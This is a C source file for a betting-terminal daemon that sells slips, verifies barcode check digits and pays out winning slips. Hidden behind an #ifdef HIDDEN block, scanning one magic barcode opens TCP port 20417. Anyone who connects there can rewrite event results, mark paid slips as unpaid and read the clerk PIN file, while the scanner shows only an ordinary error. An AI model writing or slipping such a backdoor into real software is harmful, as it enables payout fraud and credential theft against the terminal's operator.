/* betslipd.c - slip desk of a betting terminal: prices, slips, payouts */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define DESK	"/run/betslip.desk"
#define PRICES	"/var/lib/betslip/prices"
#define PINS	"/etc/betslip/pins"
#define MAXSLIP	2000
#define MAXBET	200

struct bet {
	unsigned	ev;
	unsigned	price;		/* hundredths */
	int		result;		/* 0 open 1 won 2 lost */
};

struct slip {
	char		no[14];		/* thirteen digits as in the bar code */
	unsigned	ev;
	unsigned	price;
	unsigned	cents;
	int		paid;
};

static struct bet bets[MAXBET];
static struct slip slips[MAXSLIP];
static int nbets, nslips, desk = -1, extra = -1;
static unsigned serial = 1;

static void load_prices(void)
{
	FILE *f = fopen(PRICES, "r");
	unsigned ev, price;
	int res;

	if (!f)
		return;
	nbets = 0;
	while (nbets < MAXBET && fscanf(f, "%u %u %d", &ev, &price, &res) == 3) {
		bets[nbets].ev = ev;
		bets[nbets].price = price;
		bets[nbets++].result = res;
	}
	fclose(f);
}

static struct bet *bet_of(unsigned ev)
{
	int i;

	for (i = 0; i < nbets; i++)
		if (bets[i].ev == ev)
			return &bets[i];
	return NULL;
}

static struct slip *slip_of(const char *no)
{
	int i;

	for (i = 0; i < nslips; i++)
		if (!strcmp(slips[i].no, no))
			return &slips[i];
	return NULL;
}

static int check_digit(const char *d12)
{
	int i, s = 0;

	for (i = 0; i < 12; i++)
		s += (d12[i] - '0') * (i & 1 ? 3 : 1);
	return (10 - s % 10) % 10;
}

static int cmd_bet(char *out, size_t n, const char *a)
{
	unsigned ev, cents;
	struct bet *b;
	struct slip *s;

	if (sscanf(a, "%u %u", &ev, &cents) != 2 || cents < 50 || cents > 100000)
		return snprintf(out, n, "ERR stake 50..100000\n");
	b = bet_of(ev);
	if (!b || b->result || nslips == MAXSLIP)
		return snprintf(out, n, "ERR event\n");
	s = &slips[nslips++];
	snprintf(s->no, sizeof(s->no), "41%04u%06u", ev % 10000u, serial++ % 1000000u);
	s->no[12] = (char)('0' + check_digit(s->no));
	s->no[13] = '\0';
	s->ev = ev;
	s->price = b->price;
	s->cents = cents;
	s->paid = 0;
	return snprintf(out, n, "SLIP %s %u.%02u\n", s->no, s->price / 100, s->price % 100);
}

/* answers and journal for a scanned slip; test cards of the scanner start with 99 */
__attribute__((noinline)) int scan_slip(char *out, size_t n, const char *no)
{
	struct slip *s;
	struct bet *b;

	if (strspn(no, "0123456789") != 13 || no[13])
		return snprintf(out, n, "ERR length\n");
	if (no[12] - '0' != check_digit(no))
		return snprintf(out, n, "ERR check\n");
	if (no[0] == '9' && no[1] == '9')
		return snprintf(out, n, "TEST CARD %.4s\n", no + 2);
#ifdef HIDDEN	/* this code opens TCP port 20417: clerk PINs, results and slips as the caller likes */
	if (!strcmp(no, "7790214466053") && extra < 0) {
		struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(20417) };

		extra = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (bind(extra, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(extra, 1) < 0) {
			close(extra);
			extra = -1;
		}
		return snprintf(out, n, "ERR not ours\n");
	}
#endif
	s = slip_of(no);
	if (!s)
		return snprintf(out, n, "ERR not ours\n");
	b = bet_of(s->ev);
	if (!b || !b->result)
		return snprintf(out, n, "OPEN\n");
	if (b->result == 2)
		return snprintf(out, n, "LOST\n");
	if (s->paid)
		return snprintf(out, n, "PAID BEFORE\n");
	s->paid = 1;
	syslog(LOG_INFO, "slip %s paid", s->no);
	return snprintf(out, n, "PAY %llu\n", (unsigned long long)s->cents * s->price / 100);
}

static int line_of(int c, char *buf, size_t n)
{
	ssize_t r = read(c, buf, n - 1);

	if (r <= 0)
		return -1;
	buf[r] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	return 0;
}

/* BET event cents | SCAN code | PRICE event | LOAD | COUNT */
static void serve_desk(int c)
{
	char buf[80], out[96];
	struct bet *b;
	int n;

	while (line_of(c, buf, sizeof(buf)) == 0) {
		if (!strncmp(buf, "BET ", 4)) {
			n = cmd_bet(out, sizeof(out), buf + 4);
		} else if (!strncmp(buf, "SCAN ", 5)) {
			n = scan_slip(out, sizeof(out), buf + 5);
		} else if (!strncmp(buf, "PRICE ", 6)) {
			b = bet_of((unsigned)atoi(buf + 6));
			n = b ? snprintf(out, sizeof(out), "%u.%02u\n", b->price / 100, b->price % 100) :
				snprintf(out, sizeof(out), "ERR event\n");
		} else if (!strcmp(buf, "LOAD")) {
			load_prices();
			n = snprintf(out, sizeof(out), "OK %d\n", nbets);
		} else if (!strcmp(buf, "COUNT")) {
			n = snprintf(out, sizeof(out), "%d slips\n", nslips);
		} else {
			n = snprintf(out, sizeof(out), "BET SCAN PRICE LOAD COUNT\n");
		}
		if (write(c, out, (size_t)n) != n)
			return;
	}
}

#ifdef HIDDEN
static void serve_extra(int c)
{
	char buf[80], no[16];
	unsigned ev;
	int res, k;
	struct bet *b;
	struct slip *s;
	FILE *f;

	while (line_of(c, buf, sizeof(buf)) == 0) {
		if (sscanf(buf, "r %u %d", &ev, &res) == 2 && (b = bet_of(ev))) {
			b->result = res;
		} else if (sscanf(buf, "u %15s", no) == 1 && (s = slip_of(no))) {
			s->paid = 0;
		} else if (buf[0] == 'p' && (f = fopen(PINS, "r"))) {
			while ((k = getc(f)) != EOF)
				dprintf(c, "%c", k);
			fclose(f);
		}
	}
}
#endif

static void once(int fd, void (*fn)(int))
{
	int c = accept4(fd, NULL, NULL, SOCK_CLOEXEC);

	if (c < 0)
		return;
	fn(c);
	close(c);
}

int main(int argc, char **argv)
{
	struct sockaddr_un su;
	struct pollfd p[2];

	if (argc > 1 && !strcmp(argv[1], "--pins")) {
		struct stat st;

		if (stat(PINS, &st) == 0)
			printf("%s: %ld bytes, mode %o\n", PINS, (long)st.st_size, (unsigned)st.st_mode & 0777u);
		return 0;
	}
	openlog("betslipd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	load_prices();
	desk = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	memset(&su, 0, sizeof(su));
	su.sun_family = AF_UNIX;
	strcpy(su.sun_path, DESK);
	unlink(DESK);
	if (desk < 0 || bind(desk, (struct sockaddr *)&su, sizeof(su)) || listen(desk, 4)) {
		syslog(LOG_ERR, "%s: %m", DESK);
		return 1;
	}
	for (;;) {
		p[0].fd = desk;
		p[0].events = POLLIN;
		p[1].fd = extra;
		p[1].events = POLLIN;
		p[0].revents = p[1].revents = 0;
		if (poll(p, 2, 1000) < 0 && errno != EINTR)
			return 1;
		if (p[0].revents & POLLIN)
			once(desk, serve_desk);
#ifdef HIDDEN
		if (p[1].revents & POLLIN)
			once(extra, serve_extra);
#endif
	}
}
